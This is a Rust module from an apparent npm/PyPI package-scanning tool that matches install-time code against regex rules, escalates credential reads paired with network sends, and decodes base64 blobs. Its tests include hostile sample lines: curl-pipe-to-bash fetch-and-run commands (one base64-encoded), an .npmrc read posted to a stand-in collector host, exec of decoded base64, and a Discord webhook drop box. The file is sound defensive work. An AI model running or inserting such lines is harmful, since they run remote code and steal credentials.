//! Content rules over the install surface.
//!
//! Rules are data (`rules.toml`, compiled into the binary): an id, a default
//! level, the ecosystems and moments (install, build, start-up) they apply
//! to, regex patterns matched line by line, and examples that must and must
//! not match, run as tests. All patterns are compiled once into one
//! `RegexSet`, so a file is scanned once whatever the number of rules.

mod peel;
mod surface_findings;

use std::collections::BTreeMap;
use std::sync::LazyLock;

use regex::Regex;
use regex::bytes::{RegexSet, RegexSetBuilder};
use serde::{Deserialize, Serialize};
use warden_archive::surface::excerpt;
use warden_archive::{ArtifactKind, Expected, Limits, Runs, Surface};

pub use surface_findings::{SURFACE_CODES, surface_findings};

/// An artifact read and judged: its install surface and every finding.
#[derive(Debug, Clone, Serialize)]
pub struct Analysis {
    pub surface: Surface,
    pub findings: Vec<Finding>,
    /// What the code that runs on load does that libraries also do, so it
    /// is no finding by itself: one per rule with `added-on-load`, at that
    /// level. A release that adds one of these compared with the release
    /// before it is judged by it (`runtime-code-added`).
    pub on_load: Vec<Finding>,
}

impl Analysis {
    /// The highest level among the findings (`allow` when there are none).
    pub fn level(&self) -> Level {
        self.findings
            .iter()
            .map(|f| f.level)
            .max()
            .unwrap_or(Level::Allow)
    }
}

/// Verifies `bytes` against `expected` (when given), reads the archive, and
/// applies the built-in rules to its install surface.
pub fn analyze(
    artifact: &str,
    bytes: &[u8],
    expected: Option<&Expected>,
    hint: Option<ArtifactKind>,
    limits: &Limits,
) -> Result<Analysis, warden_archive::Error> {
    if let Some(expected) = expected {
        warden_archive::verify(artifact, bytes, expected)?;
    }
    let archive = warden_archive::read(artifact, bytes, limits)?;
    let surface = warden_archive::surface(&archive, hint);
    let mut findings = surface_findings(&surface);
    let checked = RuleSet::builtin().check(&surface);
    findings.extend(checked.findings);
    RuleSet::builtin().escalate(&mut findings);
    findings.sort_by(|a, b| b.level.cmp(&a.level).then_with(|| a.file.cmp(&b.file)));
    Ok(Analysis {
        surface,
        findings,
        on_load: checked.on_load,
    })
}

/// The built-in rules' metadata without their patterns compiled: what a
/// release diff over cached verdicts needs, so that a warm run compiles no
/// pattern set.
static BUILTIN_META: LazyLock<Vec<Rule>> = LazyLock::new(|| {
    toml::from_str::<RulesFile>(BUILTIN_RULES)
        .map(|f| f.rule)
        .unwrap_or_else(|e| panic!("built-in rules: {e}"))
});

/// The codes of the built-in rules, without compiling their patterns (a
/// policy is checked against them on every run).
pub fn builtin_codes() -> impl Iterator<Item = &'static str> {
    BUILTIN_META.iter().map(|r| r.id.as_str())
}

/// The level of `runtime-code-added` for an on-load match of the built-in
/// `rule` at `level` ([`Analysis::on_load`]) that a release adds beside
/// the other rules `added` (all of them new in the release): a deny when a
/// rule it names in `deny-with` was added too (credentials read and, new
/// as well, sent).
pub fn added_level(rule: &str, level: Level, added: &[&str]) -> Level {
    let escalates = BUILTIN_META
        .iter()
        .find(|r| r.id == rule)
        .is_some_and(|r| r.deny_with.iter().any(|w| added.contains(&w.as_str())));
    if escalates { Level::Deny } else { level }
}

/// Finding levels are the policy's.
pub use warden_policy::Level;

/// A rule that fired, with its evidence.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    pub rule: String,
    pub level: Level,
    pub summary: String,
    pub file: String,
    pub line: Option<u32>,
    pub excerpt: String,
    /// How many times it matched in this file.
    pub count: usize,
    /// When the code it was found in runs.
    pub runs: Runs,
    /// Its rule makes a package's first release a deny (`deny-in-first-release`).
    #[serde(skip)]
    pub first_release_deny: bool,
}

impl Finding {
    /// Where it was found and what: `file:line excerpt`.
    pub fn evidence(&self) -> String {
        format!("{}:{} {}", self.file, self.line.unwrap_or(0), self.excerpt)
    }
}

#[derive(Debug, thiserror::Error)]
pub enum Error {
    #[error("rules file: {0}")]
    Toml(#[from] toml::de::Error),
    #[error("rule `{rule}`: pattern `{pattern}` does not compile: {message}")]
    Pattern {
        rule: String,
        pattern: String,
        message: String,
    },
    #[error("rule id `{0}` appears twice")]
    DuplicateId(String),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
enum Kind {
    Regex,
    LongLine,
    Entropy,
}

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
pub struct Rule {
    pub id: String,
    pub level: Level,
    pub description: String,
    #[serde(default = "all_ecosystems")]
    pub ecosystems: Vec<String>,
    #[serde(default = "executed")]
    pub runs: Vec<Runs>,
    #[serde(default)]
    patterns: Vec<String>,
    /// Patterns that do not apply to the runtime surface: shapes that
    /// libraries' own code and documentation have (`module._compile` in
    /// require hooks, `curl … | sh` in a docstring).
    #[serde(default)]
    install_only_patterns: Vec<String>,
    #[serde(default = "one")]
    min_matches: usize,
    #[serde(default = "regex_kind")]
    kind: Kind,
    #[serde(default)]
    threshold: usize,
    /// Rules whose findings in the same artifact's code make this one a
    /// deny (reading credentials is a warning; reading and sending them is
    /// theft).
    #[serde(default)]
    deny_with: Vec<String>,
    /// What the summary then adds.
    #[serde(default)]
    deny_with_says: String,
    /// A deny when found in code pip runs to build an sdist: what a build
    /// needs does not include it, so a warning would let it run.
    #[serde(default)]
    deny_at_build: bool,
    /// In a package's first release, install-time code with this finding
    /// makes the release a deny (nothing earlier to compare it with).
    #[serde(default)]
    deny_in_first_release: bool,
    /// Its level when a release adds it to code that runs on load (the
    /// release before had no match): what libraries' own code does, so no
    /// finding by itself, but new in a patch release it is how a hijacked
    /// package turns bad.
    #[serde(default)]
    added_on_load: Option<Level>,
    #[serde(default)]
    pub positive: Vec<String>,
    #[serde(default)]
    pub negative: Vec<String>,
}

fn all_ecosystems() -> Vec<String> {
    vec!["npm".into(), "pypi".into()]
}

fn executed() -> Vec<Runs> {
    vec![
        Runs::Install,
        Runs::Build,
        Runs::Startup,
        Runs::SourceInstall,
    ]
}

fn one() -> usize {
    1
}

fn regex_kind() -> Kind {
    Kind::Regex
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RulesFile {
    rule: Vec<Rule>,
}

/// Compiled rules.
pub struct RuleSet {
    rules: Vec<Rule>,
    set: RegexSet,
    /// The patterns read in the runtime surface, on their own: most rules
    /// do not read it, and it is the larger part of what is read. Those of
    /// rules that apply there, and those of rules with `added-on-load`.
    import_set: RegexSet,
    /// For each pattern of `import_set`: its index in `patterns`.
    import_patterns: Vec<usize>,
    /// The patterns of rules that apply on load, alone: for the package's
    /// other modules (`Runs::Module`), which are not compared between
    /// releases and so need no `added-on-load` patterns.
    module_set: RegexSet,
    module_patterns: Vec<usize>,
    /// For each pattern of `set`: its rule, its own regex (to locate it),
    /// and whether it is for install-time code only.
    patterns: Vec<(usize, Regex, bool)>,
}

/// The built-in rules file, as compiled in.
pub const BUILTIN_RULES: &str = include_str!("../rules.toml");

static BUILTIN_SET: LazyLock<RuleSet> = LazyLock::new(|| {
    RuleSet::from_toml(BUILTIN_RULES).unwrap_or_else(|e| panic!("built-in rules: {e}"))
});

impl RuleSet {
    /// The rules shipped with warden.
    pub fn builtin() -> &'static RuleSet {
        &BUILTIN_SET
    }

    pub fn from_toml(text: &str) -> Result<Self, Error> {
        let file: RulesFile = toml::from_str(text)?;
        let mut ids = std::collections::BTreeSet::new();
        let mut sources = Vec::new();
        let mut patterns = Vec::new();
        for (i, rule) in file.rule.iter().enumerate() {
            if !ids.insert(rule.id.clone()) {
                return Err(Error::DuplicateId(rule.id.clone()));
            }
            let all = rule
                .patterns
                .iter()
                .map(|p| (p, false))
                .chain(rule.install_only_patterns.iter().map(|p| (p, true)));
            for (p, install_only) in all {
                let re = Regex::new(p).map_err(|e| Error::Pattern {
                    rule: rule.id.clone(),
                    pattern: p.clone(),
                    message: e.to_string(),
                })?;
                sources.push(p.clone());
                patterns.push((i, re, install_only));
            }
        }
        let compile = |sources: &[&String]| {
            // ASCII word boundaries and classes: a Unicode `\b` makes the
            // set's lazy DFA give up on any line with a non-ASCII character
            // (bundled JavaScript has many). And room for the DFA's states:
            // at the default 2 MiB its cache fills on large bundles, it
            // gives up, and the fallback is 9x slower (docs/benchmarks.md).
            // Each match is then located with the rule's own regex.
            RegexSetBuilder::new(sources)
                .unicode(false)
                .dfa_size_limit(8 << 20)
                .build()
                .map_err(|e| Error::Pattern {
                    rule: "(set)".into(),
                    pattern: String::new(),
                    message: e.to_string(),
                })
        };
        let set = compile(&sources.iter().collect::<Vec<_>>())?;
        let import_patterns: Vec<usize> = patterns
            .iter()
            .enumerate()
            .filter(|(_, (rule, _, install_only))| {
                let rule = &file.rule[*rule];
                (!install_only && rule.runs.contains(&Runs::Import)) || rule.added_on_load.is_some()
            })
            .map(|(i, _)| i)
            .collect();
        let module_patterns: Vec<usize> = patterns
            .iter()
            .enumerate()
            .filter(|(_, (rule, _, install_only))| {
                !install_only && file.rule[*rule].runs.contains(&Runs::Import)
            })
            .map(|(i, _)| i)
            .collect();
        let subset =
            |indices: &[usize]| compile(&indices.iter().map(|i| &sources[*i]).collect::<Vec<_>>());
        let import_set = subset(&import_patterns)?;
        let module_set = subset(&module_patterns)?;
        Ok(Self {
            rules: file.rule,
            set,
            import_set,
            import_patterns,
            module_set,
            module_patterns,
            patterns,
        })
    }

    /// Raises each finding whose rule names, in `deny-with`, another rule
    /// that also fired in code that runs, and each finding of a
    /// `deny-at-build` rule in code pip runs to build an sdist.
    pub fn escalate(&self, findings: &mut [Finding]) {
        let fired: std::collections::BTreeSet<String> = findings
            .iter()
            .filter(|f| f.runs != Runs::Never)
            .map(|f| f.rule.clone())
            .collect();
        for f in findings.iter_mut() {
            let Some(rule) = self.rules.iter().find(|r| r.id == f.rule) else {
                continue;
            };
            if rule.deny_with.iter().any(|w| fired.contains(w)) {
                f.level = Level::Deny;
                f.summary = format!("{} {}", f.summary, rule.deny_with_says);
            } else if rule.deny_at_build && f.runs == Runs::Build && f.level < Level::Deny {
                f.level = Level::Deny;
                f.summary = format!(
                    "{} (in code pip runs to build the sdist, before anything is installed)",
                    f.summary
                );
            }
        }
    }

    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// Applies the rules to every text of the surface.
    pub fn check(&self, surface: &Surface) -> Checked {
        let mut out = Checked::default();
        let ecosystem = match surface.kind {
            ArtifactKind::NpmPackage => "npm",
            ArtifactKind::Wheel | ArtifactKind::Sdist => "pypi",
            ArtifactKind::Unknown => return out,
        };
        for t in &surface.texts {
            let (found, on_load) = self.check_runs(ecosystem, t.runs, &t.path, &t.text);
            out.findings.extend(found);
            // One per rule: the first file, in the surface's order.
            for f in on_load {
                if !out.on_load.iter().any(|o| o.rule == f.rule) {
                    out.on_load.push(f);
                }
            }
            // Libraries embed data as base64 (fonts, source maps): only
            // code that runs at install, build or start-up is peeled.
            if !t.runs.on_load() {
                out.findings
                    .extend(self.check_peeled(ecosystem, t.runs, &t.path, &t.text));
            }
        }
        out
    }

    /// The deny rules over what base64 blobs in `text` decode to, two
    /// layers deep: each finding at the blob's line, with the decoded
    /// excerpt as evidence.
    fn check_peeled(&self, ecosystem: &str, runs: Runs, path: &str, text: &str) -> Vec<Finding> {
        let mut out = Vec::new();
        let mut layer: Vec<(u32, String)> = peel::decoded(text);
        for _ in 0..2 {
            let mut next = Vec::new();
            for (line, decoded) in &layer {
                for mut f in self.check_text(ecosystem, runs, path, decoded) {
                    if f.level < Level::Deny {
                        continue;
                    }
                    f.line = Some(*line);
                    f.excerpt = format!("decoded from base64: {}", f.excerpt);
                    f.summary = format!("{} (hidden in a base64 blob)", f.summary);
                    out.push(f);
                }
                next.extend(peel::decoded(decoded).into_iter().map(|(_, t)| (*line, t)));
            }
            layer = next;
        }
        out
    }

    /// Applies the rules that cover `ecosystem` and `runs` to one text.
    pub fn check_text(&self, ecosystem: &str, runs: Runs, path: &str, text: &str) -> Vec<Finding> {
        self.check_runs(ecosystem, runs, path, text).0
    }

    /// The findings in one text and, in code that runs on load, what the
    /// rules with `added-on-load` see there (at that level).
    fn check_runs(
        &self,
        ecosystem: &str,
        runs: Runs,
        path: &str,
        text: &str,
    ) -> (Vec<Finding>, Vec<Finding>) {
        let covers = |r: &Rule| r.ecosystems.iter().any(|e| e == ecosystem);
        // The package's other modules are read by the rules that read
        // what it loads; only what its entry points load is compared with
        // the release before (`latent`): the rest is read within bounds,
        // so which of it is read can differ between releases.
        let on_load = runs.on_load();
        let rule_runs = if on_load { Runs::Import } else { runs };
        let applies = |r: &Rule| covers(r) && r.runs.contains(&rule_runs);
        // rule index -> (first line, excerpt, count)
        let mut hits: BTreeMap<usize, (u32, String, usize)> = BTreeMap::new();
        let mut latent: BTreeMap<usize, (u32, String, usize)> = BTreeMap::new();
        for (n, line) in text.lines().enumerate() {
            let n = n as u32 + 1;
            // A comment does not run (and libraries' comments quote code).
            if on_load && is_comment(line) {
                continue;
            }
            let matched: Vec<usize> = if runs == Runs::Import {
                self.import_set
                    .matches(line.as_bytes())
                    .iter()
                    .map(|i| self.import_patterns[i])
                    .collect()
            } else if runs == Runs::Module {
                self.module_set
                    .matches(line.as_bytes())
                    .iter()
                    .map(|i| self.module_patterns[i])
                    .collect()
            } else {
                self.set.matches(line.as_bytes()).iter().collect()
            };
            for p in matched {
                let (rule, re, install_only) = &self.patterns[p];
                let r = &self.rules[*rule];
                let into = if applies(r) && !(*install_only && on_load) {
                    &mut hits
                } else if runs == Runs::Import && r.added_on_load.is_some() && covers(r) {
                    &mut latent
                } else {
                    continue;
                };
                for m in re.find_iter(line) {
                    if r.id == "raw-ip-url"
                        && (is_local_address(m.as_str())
                            || (on_load && is_private_address(m.as_str())))
                    {
                        continue;
                    }
                    let entry = into
                        .entry(*rule)
                        .or_insert_with(|| (n, around(line, m.start(), m.end()), 0));
                    entry.2 += 1;
                }
            }
            for (i, rule) in self.rules.iter().enumerate() {
                if !applies(rule) {
                    continue;
                }
                let hit = match rule.kind {
                    Kind::Regex => None,
                    Kind::LongLine => (line.len() >= rule.threshold)
                        .then(|| format!("a {}-character line: {}", line.len(), excerpt(line))),
                    Kind::Entropy => high_entropy(line, rule.threshold),
                };
                if let Some(ex) = hit {
                    hits.entry(i).or_insert_with(|| (n, ex, 0)).2 += 1;
                }
            }
        }
        let found = self.findings(hits, runs, path, |rule| Some(rule.level));
        // A rule that fired is a finding already: it is not latent too.
        latent.retain(|i, _| !found.iter().any(|f| f.rule == self.rules[*i].id));
        // Patterns a rule that reads code on load leaves to install time
        // are shapes libraries have: new in a release, only a warning.
        let on_load = self.findings(latent, runs, path, |rule| {
            let level = rule.added_on_load?;
            Some(if rule.runs.contains(&Runs::Import) {
                level.min(Level::Warn)
            } else {
                level
            })
        });
        (found, on_load)
    }

    /// Findings from hits of at least their rules' `min-matches`, at the
    /// level `level` gives each rule.
    fn findings(
        &self,
        hits: BTreeMap<usize, (u32, String, usize)>,
        runs: Runs,
        path: &str,
        level: impl Fn(&Rule) -> Option<Level>,
    ) -> Vec<Finding> {
        hits.into_iter()
            .filter(|(i, (_, _, count))| *count >= self.rules[*i].min_matches)
            .filter_map(|(i, (line, excerpt, count))| {
                let rule = &self.rules[i];
                Some(Finding {
                    rule: rule.id.clone(),
                    level: level(rule)?,
                    summary: if runs.on_load() {
                        // Descriptions are written for install-time code.
                        let what = rule
                            .description
                            .replace(" in code that runs at install", "")
                            .replace(" at install time", "");
                        format!(
                            "{what} (in code that runs when the package is loaded, not at install)"
                        )
                    } else {
                        rule.description.clone()
                    },
                    file: path.to_owned(),
                    line: Some(line),
                    excerpt,
                    count,
                    runs,
                    first_release_deny: rule.deny_in_first_release,
                })
            })
            .collect()
    }
}

/// What the rules made of a surface.
#[derive(Debug, Default)]
pub struct Checked {
    pub findings: Vec<Finding>,
    /// See [`Analysis::on_load`].
    pub on_load: Vec<Finding>,
}

/// A line that holds only a comment (`#` or `//`).
fn is_comment(line: &str) -> bool {
    let t = line.trim_start();
    t.starts_with('#') || t.starts_with("//")
}

/// A private, link-local, shared or documentation address (RFC 1918,
/// 3927, 6598, 5737): what examples and local services use.
fn is_private_address(url: &str) -> bool {
    let host = url.split("://").nth(1).unwrap_or("");
    let octets: Vec<u32> = host
        .split(['.', ':', '/'])
        .take(4)
        .filter_map(|o| o.parse().ok())
        .collect();
    match octets[..] {
        [10, ..] | [192, 168, ..] | [169, 254, ..] => true,
        [172, b, ..] => (16..32).contains(&b),
        [100, b, ..] => (64..128).contains(&b),
        [192, 0, 2, _] | [198, 51, 100, _] | [203, 0, 113, _] => true,
        _ => false,
    }
}

fn is_local_address(url: &str) -> bool {
    let host = url.split("://").nth(1).unwrap_or("");
    host.starts_with("127.") || host.starts_with("0.0.0.0")
}

/// The match with some context, on one line.
fn around(line: &str, start: usize, end: usize) -> String {
    let from = line[..start]
        .char_indices()
        .rev()
        .nth(59)
        .map_or(0, |(i, _)| i);
    let to = line[end..]
        .char_indices()
        .nth(60)
        .map_or(line.len(), |(i, _)| end + i);
    let mut out = String::new();
    if from > 0 {
        out.push('…');
    }
    out.push_str(line[from..to].trim());
    if to < line.len() {
        out.push('…');
    }
    out
}

/// A run of base64/hex-like characters at least `min_len` long whose
/// Shannon entropy says it is encoded data rather than text.
fn high_entropy(line: &str, min_len: usize) -> Option<String> {
    static TOKEN: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/=_\-]{40,}").unwrap_or_else(|_| unreachable!()));
    for m in TOKEN.find_iter(line) {
        let s = m.as_str();
        if s.len() < min_len {
            continue;
        }
        let mut counts = [0usize; 256];
        for b in s.bytes() {
            counts[usize::from(b)] += 1;
        }
        let len = s.len() as f64;
        let entropy: f64 = counts
            .iter()
            .filter(|&&c| c > 0)
            .map(|&c| {
                let p = c as f64 / len;
                -p * p.log2()
            })
            .sum();
        if entropy >= 5.0 {
            return Some(format!(
                "{} characters, {entropy:.1} bits/char: {}…",
                s.len(),
                &s[..40]
            ));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_credential_read_is_denied_only_beside_code_that_sends() {
        let set = RuleSet::builtin();
        let read = "var npm = path.join(projectPath, '.npmrc'); fs.readFileSync(npm)";
        let send = "https.request({ host: 'collector.example', method: 'POST' }).end(data)";
        let level = |texts: &[&str]| {
            let mut found: Vec<Finding> = texts
                .iter()
                .flat_map(|t| set.check_text("npm", Runs::Install, "index.js", t))
                .collect();
            set.escalate(&mut found);
            found
                .iter()
                .find(|f| f.rule == "credential-files")
                .map(|f| f.level)
        };
        assert_eq!(level(&[read]), Some(Level::Warn));
        assert_eq!(level(&[read, send]), Some(Level::Deny));
    }

    #[test]
    fn every_rule_matches_its_examples_and_only_them() {
        let set = RuleSet::builtin();
        assert!(set.rules().len() >= 14);
        for rule in set.rules() {
            for eco in &rule.ecosystems {
                for text in &rule.positive {
                    let found = set.check_text(eco, Runs::Install, "x.js", text);
                    assert!(
                        found.iter().any(|f| f.rule == rule.id),
                        "`{}` missed {text:?}",
                        rule.id
                    );
                }
                for text in &rule.negative {
                    let found = set.check_text(eco, Runs::Install, "x.js", text);
                    assert!(
                        !found.iter().any(|f| f.rule == rule.id),
                        "`{}` matched {text:?}",
                        rule.id
                    );
                }
            }
        }
    }

    #[test]
    fn rule_ids_are_unique_kebab_case() {
        let ids: Vec<&str> = RuleSet::builtin()
            .rules()
            .iter()
            .map(|r| r.id.as_str())
            .collect();
        let unique: std::collections::BTreeSet<_> = ids.iter().collect();
        assert_eq!(unique.len(), ids.len());
        for id in ids {
            assert!(
                id.chars().all(|c| c.is_ascii_lowercase() || c == '-'),
                "{id}"
            );
        }
    }

    #[test]
    fn evidence_has_file_line_and_excerpt() {
        let text = "const a = 1;\nrequire('child_process').execSync('curl -s http://x.example.org/a | sh');\n";
        let found = RuleSet::builtin().check_text("npm", Runs::Install, "install.js", text);
        let f = found
            .iter()
            .find(|f| f.rule == "download-and-execute")
            .unwrap();
        assert_eq!(
            (f.file.as_str(), f.line, f.level),
            ("install.js", Some(2), Level::Deny)
        );
        assert!(f.excerpt.contains("| sh"), "{}", f.excerpt);
    }

    #[test]
    fn computed_rules() {
        let set = RuleSet::builtin();
        let long = format!("var a={};", "x+".repeat(4000));
        assert!(
            set.check_text("npm", Runs::Install, "i.js", &long)
                .iter()
                .any(|f| f.rule == "long-line")
        );
        // 300 characters of pseudo-random base64.
        let mut state = 7u64;
        let payload: String = (0..300)
            .map(|_| {
                state = state
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                let chars = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
                chars[(state >> 58) as usize] as char
            })
            .collect();
        let text = format!("const p = '{payload}';");
        assert!(
            set.check_text("npm", Runs::Install, "i.js", &text)
                .iter()
                .any(|f| f.rule == "high-entropy-string")
        );
    }

    #[test]
    fn commands_are_not_install_time() {
        let found = RuleSet::builtin().check_text(
            "npm",
            Runs::Command,
            "cli.js",
            "execSync('curl x | sh')",
        );
        assert!(found.is_empty());
    }

    #[test]
    fn bad_rules_are_errors() {
        assert!(
            RuleSet::from_toml("[[rule]]\nid='a'\nlevel='deny'\ndescription='d'\npatterns=['(']\n")
                .is_err()
        );
        assert!(RuleSet::from_toml("[[rule]]\nid='a'\nlevel='nope'\ndescription='d'\n").is_err());
        assert!(matches!(
            RuleSet::from_toml(
                "[[rule]]\nid='a'\nlevel='warn'\ndescription='d'\n[[rule]]\nid='a'\nlevel='warn'\ndescription='d'\n"
            ),
            Err(Error::DuplicateId(_))
        ));
    }

    #[test]
    fn the_runtime_surface_reads_only_what_no_library_needs() {
        let set = RuleSet::builtin();
        let rules = |runs, text: &str| -> Vec<String> {
            set.check_text("pypi", runs, "pkg/__init__.py", text)
                .into_iter()
                .map(|f| format!("{}:{:?}", f.rule, f.level))
                .collect()
        };
        // A decoded payload is a deny wherever it runs, and says when.
        let payload = "exec(base64.b64decode('cHJpbnQoMSk='))";
        assert_eq!(rules(Runs::Import, payload), ["decode-and-execute:Deny"]);
        let found = set.check_text("pypi", Runs::Import, "pkg/__init__.py", payload);
        assert!(
            found[0].summary.contains("when the package is loaded"),
            "{found:?}"
        );
        // What libraries do in their own code is not read on load.
        for text in [
            "subprocess.run(['git', 'status'])",
            "requests.post(url, json=body)",
            "# install with: curl -LsSf https://x.example.org/install.sh | bash",
            "return self._compile(source, filename)",
            "return [['sh', '-i', '-l', '-c', 'echo $PATH']]",
            "url='https://webhook.site/a2176e82'  # an example in a docstring",
            "\"ap.ngrok.io\",",
            "__all__ = ['Cookies']",
            "base_url: str = \"https://api.telegram.org/bot\",",
            // A CGI server hands its request body to the script it runs.
            "os.dup2(self.rfile.fileno(), 0)",
            // Bare addresses in documentation, and private ones anywhere.
            ">>> extract(\"http://256.1.1.1\").ipv4",
            "doh_url: DNS-over-HTTPS server url, e.g. https://1.1.1.1/dns-query.",
            "requests.get('http://192.168.1.20:8080/status')",
            // Comments do not run.
            "#     import os; f = open(os.devnull); os.dup2(f.fileno(), 0); exec(b64decode(x))",
            "// eval(Buffer.from(x, 'base64').toString())",
        ] {
            assert!(rules(Runs::Import, text).is_empty(), "{text}");
        }
        // A request to a bare public address is one on load too.
        assert_eq!(
            rules(
                Runs::Import,
                "requests.get(\"http://178.128.214.12:7272/?1=\"+os.getlogin())"
            ),
            ["raw-ip-url:Deny"]
        );
        // A stealer's drop box is one wherever it is named.
        assert_eq!(
            rules(
                Runs::Import,
                "WEBHOOK = 'https://discord.com/api/webhooks/1/x'"
            ),
            ["exfiltration-endpoint:Deny"]
        );
        // The same shell one-liner at install is still a deny.
        assert!(
            rules(
                Runs::Install,
                "curl -fsSL https://x.example.org/i.sh | bash"
            )
            .contains(&"download-and-execute:Deny".to_owned())
        );
    }

    #[test]
    fn what_libraries_also_do_on_load_is_kept_for_the_release_diff() {
        let set = RuleSet::builtin();
        let on_load = |text: &str| -> Vec<String> {
            let (found, latent) = set.check_runs("pypi", Runs::Import, "pkg/__init__.py", text);
            assert!(found.is_empty(), "{found:?}");
            latent
                .into_iter()
                .map(|f| format!("{}:{:?}", f.rule, f.level))
                .collect()
        };
        assert_eq!(
            on_load("requests.post(url, data=body)"),
            ["network-send:Warn"]
        );
        // A shape libraries have, left to install time by a rule that
        // reads code on load: a warning when new.
        assert_eq!(
            on_load("return self._compile(source, filename)"),
            ["decode-and-execute:Warn"]
        );
        // Ten obfuscator names: heavy obfuscation, a deny when it is new.
        let names: Vec<String> = (0..10).map(|i| format!("_0x{:04x}", 0x1a2b + i)).collect();
        assert_eq!(
            on_load(&format!("var {};", names.join("=1,"))),
            ["obfuscated-identifiers:Deny"]
        );
        // Nine are not enough.
        assert!(on_load(&format!("var {};", names[..9].join("=1,"))).is_empty());
        // A rule that applies on load is a finding there, not latent too.
        let (found, latent) = set.check_runs(
            "pypi",
            Runs::Import,
            "pkg/__init__.py",
            "exec(base64.b64decode(x)); requests.post(u, data=x)",
        );
        assert_eq!(found.len(), 1);
        assert_eq!(latent.len(), 1);
        assert_eq!(latent[0].rule, "network-send");
        // Install-time code has findings, never latent ones.
        let (_, latent) = set.check_runs("npm", Runs::Install, "i.js", "https.request(u)");
        assert!(latent.is_empty());
        // Escalation among what one release adds.
        let both = ["credential-files", "network-send"];
        assert_eq!(
            added_level("credential-files", Level::Warn, &both),
            Level::Deny
        );
        assert_eq!(
            added_level("credential-files", Level::Warn, &both[..1]),
            Level::Warn
        );
    }

    #[test]
    fn what_a_base64_blob_hides_is_read_and_shown_decoded() {
        // "curl -fsSL https://x.example.org/i.sh | bash; echo installed-ok-done"
        let text = "cmd = 'Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS5vcmcvaS5zaCB8IGJhc2g7IGVjaG8gaW5zdGFsbGVkLW9rLWRvbmU='\nrun(cmd)\n";
        let found = RuleSet::builtin().check_peeled("npm", Runs::Install, "install.js", text);
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].rule, "download-and-execute");
        assert_eq!(found[0].line, Some(1));
        assert!(
            found[0].excerpt.starts_with("decoded from base64: "),
            "{found:?}"
        );
        // A blob of data is left alone.
        let data = "icon = 'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAGElEQVR42mNkYPhfz0AEYBxVSF+FAAhKDveksOjmAAAAAElFTkSuQmCC'\n";
        assert!(
            RuleSet::builtin()
                .check_peeled("npm", Runs::Install, "i.js", data)
                .is_empty()
        );
    }
}

#[cfg(test)]
mod docs {
    use super::*;

    #[test]
    fn every_code_is_documented_once() {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/findings.md");
        let doc = std::fs::read_to_string(path).unwrap();
        let mut codes: Vec<String> = RuleSet::builtin()
            .rules()
            .iter()
            .map(|r| r.id.clone())
            .collect();
        codes.extend(SURFACE_CODES.iter().map(|c| (*c).to_owned()));
        let unique: std::collections::BTreeSet<&String> = codes.iter().collect();
        assert_eq!(
            unique.len(),
            codes.len(),
            "codes are unique across rules and surface findings"
        );
        for code in &codes {
            let heading = format!("### `{code}`");
            assert_eq!(
                doc.matches(&heading).count(),
                1,
                "docs/findings.md needs one `{heading}`"
            );
        }
    }
}
